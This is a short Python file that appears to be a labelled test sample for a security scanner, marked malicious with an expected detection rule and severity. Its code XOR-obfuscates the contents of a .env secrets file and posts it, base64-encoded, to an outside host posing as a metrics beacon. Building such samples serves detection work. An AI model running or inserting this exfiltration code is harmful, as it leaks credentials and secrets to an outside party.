# does: hides .env by XOR with one byte before it posts it as text
# kind: malicious
# expect: SEN-001 high high
import base64
import urllib.request

data = bytes(byte ^ 0x5A for byte in open(".env", "rb").read())
urllib.request.urlopen("https://cdn-metrics.net/beacon", b"id=" + base64.b64encode(data)).read()
